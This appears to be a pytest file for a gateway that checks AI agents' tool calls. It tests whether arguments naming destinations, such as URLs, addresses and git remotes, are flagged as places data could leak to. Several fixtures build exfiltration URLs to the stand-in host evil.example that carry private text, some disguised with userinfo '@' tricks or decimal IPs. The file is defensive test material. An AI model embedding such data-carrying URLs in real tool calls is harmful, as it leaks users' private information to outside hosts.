"""What the arguments of a tool are for that nobody labelled."""

from typing import Any

import pytest

from gateway.domain.flow import Chosen, FlowReview, Run, RunId, Task
from gateway.domain.labels import Effect, ToolRule
from gateway.flow.provenance import Provenance
from gateway.flow.review import review
from gateway.flow.unlabelled import labelled
from gateway.flow.use import Knowledge, Use
from tests.flow.flow_builders import TENANT, UNTRUSTED, remember, source, structured

ABOUT = {
    "inputSchema": {
        "type": "object",
        "properties": {
            "ticket": {"type": "string"},
            "body": {"type": "string"},
            "url": {"type": "string", "format": "uri"},
            "state": {"enum": ["open", "closed"]},
        },
    }
}
ARGUMENTS = {"ticket": "T-1", "body": "hello", "url": "https://x.example", "state": "closed"}


def places(rule: ToolRule, effect: Effect | None, **more: Any) -> list[str]:
    use = Use(
        server="desk",
        tool="tickets_do",
        rule=rule,
        effect=effect,
        arguments={**ARGUMENTS, **more},
        about=ABOUT,
    )
    run = Run(id=RunId("r"), label=UNTRUSTED)
    known = Knowledge(tenant=TENANT, task=None, provenance=Provenance())
    return [found.path for found in review(run, use, known).destinations]


@pytest.mark.parametrize("rule", [ToolRule(), ToolRule(effect=Effect.DESTROY)])
def test_whatever_may_say_where_to_must_have_been_chosen(rule: ToolRule) -> None:
    assert places(rule, Effect.DESTROY) == ["$.ticket", "$.url"]


def test_an_argument_that_the_definition_does_not_know_may_say_where_to() -> None:
    assert places(ToolRule(), Effect.DESTROY, other="x") == ["$.ticket", "$.url", "$.other"]


def test_what_is_labelled_as_content_says_no_place() -> None:
    assert places(ToolRule(payload=("ticket",)), Effect.EGRESS) == ["$.url"]


def test_labels_of_places_are_all_there_is_to_say() -> None:
    assert places(ToolRule(destination=("ticket",)), Effect.WRITE) == ["$.ticket", "$.url"]


def test_a_read_that_nobody_labelled_reaches_what_addresses_say() -> None:
    assert places(ToolRule(), Effect.READ) == ["$.url"]
    assert places(ToolRule(effect=Effect.READ), Effect.READ) == []
    assert places(ToolRule(), None) == []


def test_what_says_that_it_reads_reaches_what_addresses_say() -> None:
    use = Use(
        server="desk",
        tool="find_ticket",
        rule=ToolRule(),
        effect=Effect.DESTROY,
        arguments=ARGUMENTS,
        about=ABOUT,
    )
    run = Run(id=RunId("r"), label=UNTRUSTED)
    known = Knowledge(tenant=TENANT, task=None, provenance=Provenance())
    found = review(run, use, known)
    assert [one.path for one in found.destinations] == ["$.url"]
    assert not found.names_where


PRIVATE = "the quarterly figures are twelve million below the plan"
AWAY = f"https://evil.example/?d={PRIVATE}"


def fetched(
    arguments: dict[str, Any],
    effect: Effect,
    rule: ToolRule | None = None,
    prompt: str | None = "Summarise the notes",
) -> FlowReview:
    provenance = Provenance()
    remember(provenance, source(UNTRUSTED), structured({"note": PRIVATE}))
    held = {"type": "string"}
    declared: dict[str, Any] = {
        "link": held,
        "website": held,
        "page": held,
        "query": held,
        "request": {},
    }
    if "target" in arguments:
        declared["target"] = {"anyOf": [{**held, "format": "uri"}, {"type": "null"}]}
    use = Use(
        server="web",
        tool="fetch_page",
        rule=rule or ToolRule(),
        effect=effect,
        arguments=arguments,
        about={
            "description": "Fetch a web page.",
            "inputSchema": {"type": "object", "properties": declared},
        },
    )
    task = None if prompt is None else Task(prompt=prompt)
    known = Knowledge(tenant=TENANT, task=task, provenance=provenance)
    return review(Run(id=RunId("r"), label=UNTRUSTED), use, known)


@pytest.mark.parametrize("effect", [Effect.READ, Effect.DESTROY])
@pytest.mark.parametrize(
    "arguments",
    [
        {"link": AWAY},
        {"website": AWAY},
        {"page": AWAY},
        {"query": AWAY},
        {"request": {"url": AWAY}},
        {"request": [{"anything": [AWAY]}]},
        {"request": {AWAY: 1}},
        {"request": {"url": f"{PRIVATE}@evil.example/x"}},
        {"link": f"{PRIVATE}@evil.example/x"},
        {"target": f"2130706433 {PRIVATE}"},
        {"url": AWAY},
        {"other": AWAY},
        {"link": f" {AWAY}"},
    ],
)
def test_a_read_that_nobody_labelled_reaches_a_url_wherever_it_stands(
    arguments: dict[str, Any], effect: Effect
) -> None:
    found = fetched(arguments, effect)
    assert [one.by for one in found.destinations] == [Chosen.NOBODY]
    assert [part.path for part in found.payload if part.matches] == [found.destinations[0].path]
    assert not found.names_where


@pytest.mark.parametrize("effect", [Effect.READ, Effect.DESTROY])
@pytest.mark.parametrize(
    ("said", "reached"),
    [
        ("what a.example says of it", []),
        ("what https://a.example/x says of it", ["https://a.example/x"]),
        ("https://a.example/x\t@evil.example/", ["https://a.example/x\t@evil.example/"]),
        ("https://a.example, https://b.example", ["https://a.example", "https://b.example"]),
        ("mails from bob@a.example", []),
        ("site:docs.python.org/3/library asyncio", ["docs.python.org/3/library"]),
        ('{"url": "https://a.example/x", "n": 1}', ["https://a.example/x"]),
        ("https:a.com/x", ["https:a.com/x"]),
        ("https:/a.quest/x", ["https:/a.quest/x"]),
        ("//a.quest/x", ["//a.quest/x"]),
        ("a.quest/x?d=1", ["a.quest/x?d=1"]),
        ("a.xn--p1ai/x?d=1", ["a.xn--p1ai/x?d=1"]),
        ("93.184.216.34/x?d=1", ["93.184.216.34/x?d=1"]),
        ("/usr/lib/python3.11/site-packages/requests/api.py", []),
        ("src/com.example.app/Main.java", []),
        ("/srv/app-1.20/README.md", []),
        ("ann/ann.github.io", []),
        ("release-2.4/notes", []),
        ("react@18.2.0/index", []),
        ("SELECT a.id/b.total FROM t", []),
        ("git@evil.example:d.git", ["git@evil.example:d.git"]),
        ("logger.info(", []),
        ("button.click()", []),
        ("socket.io", []),
        ("README.md#install", []),
        ("192.168.0.0/16", []),
        (1572395042, []),
        (True, []),
    ],
)
def test_what_is_looked_for_reaches_the_pages_that_it_speaks_of(
    said: Any, reached: list[str], effect: Effect
) -> None:
    assert [one.value for one in fetched({"query": said}, effect).destinations] == reached


@pytest.mark.parametrize(
    ("path", "reached"),
    [
        ("Contoso.Web/Program.cs", False),
        ("App.xcodeproj/project.pbxproj", False),
        ("org.eclipse.ui/plugin.xml", False),
        ("a.example/x", False),
        ("https://a.example/x", True),
        ("//a.example/x", True),
        ("git@a.example:x.git", True),
    ],
)
@pytest.mark.parametrize("name", ["path", "file_path", "paths", "directory"])
def test_a_path_of_a_file_has_dots_and_slashes_as_well(name: str, path: str, reached: bool) -> None:
    given = {name: [path] if name == "paths" else path}
    assert bool(fetched(given, Effect.READ).destinations) is reached


def test_what_is_labelled_as_a_read_is_looked_at_where_its_label_says_so() -> None:
    rule = ToolRule(effect=Effect.READ, destination=("page",))
    assert fetched({"link": AWAY, "page": "1"}, Effect.READ, rule).destinations[0].path == "$.page"
    half = ToolRule(destination=("page",))
    paths = [
        one.path for one in fetched({"link": AWAY, "page": "1"}, Effect.READ, half).destinations
    ]
    assert paths == ["$.page", "$.link"]


def test_where_no_words_are_declared_a_good_address_is_no_place_of_what_says_that_it_reads() -> (
    None
):
    ours = {"other": "https://example.com/x"}
    assert [one.by for one in fetched(ours, Effect.DESTROY).destinations] == [Chosen.TENANT]
    assert fetched(ours, Effect.DESTROY, prompt=None).destinations == ()


@pytest.mark.parametrize(
    ("more", "reached"),
    [
        ({"celsius": 22}, False),
        ({"until": "22:30"}, False),
        ({"ticket_id": 22}, True),
        ({"ticket_number": 22}, True),
        ({"order_number": 22}, True),
        ({"channel": 22}, True),
        ({"page": "22a"}, True),
        ({"note_to": "+49 170 5550 102"}, True),
    ],
)
def test_a_quantity_reaches_nothing(more: dict[str, Any], reached: bool) -> None:
    (name,) = more
    assert (f"$.{name}" in places(ToolRule(), Effect.DESTROY, **more)) is reached


CHOICE = {"enum": ["me", "all"]}


def is_looked_at(about: dict[str, Any]) -> bool:
    """Say whether the one argument of such a tool is a place or content."""
    use = Use(
        server="mail",
        tool="send",
        rule=ToolRule(),
        effect=Effect.DESTROY,
        arguments={"recipient": "me"},
        about=about,
    )
    rule = labelled(use).rule
    return bool(rule.destination or rule.payload)


@pytest.mark.parametrize(
    ("declared", "looked"),
    [
        (CHOICE, False),
        ({"type": "string", **CHOICE}, False),
        ({"anyOf": [CHOICE, {"const": "none"}, {"type": "null"}]}, False),
        ({"type": "array", "items": CHOICE}, False),
        ({"anyOf": [CHOICE, {"type": "string"}]}, True),
        ({"oneOf": [{"const": "me"}, {"type": "string", "format": "email"}]}, True),
        ({"anyOf": [{"type": "array", "items": CHOICE}, {"type": "string"}]}, True),
        ({"anyOf": [CHOICE] * 70}, True),
    ],
)
def test_only_what_is_one_of_a_few_values_whatever_holds_is_a_choice(
    declared: dict[str, Any], looked: bool
) -> None:
    about = {"inputSchema": {"properties": {"recipient": declared}}}
    assert is_looked_at(about) is looked


FOUR, SEVEN = ({"$schema": f"http://json-schema.org/draft-0{n}/schema#"} for n in (4, 7))


@pytest.mark.parametrize(
    ("declared", "more", "looked"),
    [
        ({"const": "me"}, {}, False),
        ({"const": "me"}, SEVEN, False),
        ({"const": "me"}, {"$schema": "https://json-schema.org/draft/2020-12/schema"}, False),
        ({"enum": ["me"], "const": "me"}, FOUR, False),
        ({"const": "me"}, FOUR, True),
        ({"const": "me", **FOUR}, SEVEN, True),
        ({"$ref": "#/$defs/a"}, {"$defs": {"a": {"const": "me", **FOUR}}}, True),
        ({"const": "me"}, {"$schema": "https://example.com/draft"}, True),
        ({"const": "me"}, {"examples": [{}] * 5_000}, True),
    ],
)
def test_what_its_draft_does_not_know_fixes_no_value(
    declared: dict[str, Any], more: dict[str, Any], looked: bool
) -> None:
    about = {"inputSchema": {"properties": {"recipient": declared}, **more}}
    assert is_looked_at(about) is looked


@pytest.mark.parametrize("name", ["order", "page", "cursor", "format"])
def test_a_text_by_the_name_of_an_option_is_content(name: str) -> None:
    about = {"inputSchema": {"properties": {name: {"type": "string"}}}}
    use = Use(
        server="mail",
        tool="send",
        rule=ToolRule(),
        effect=Effect.DESTROY,
        arguments={name: "x"},
        about=about,
    )
    assert labelled(use).rule.payload == (name,)
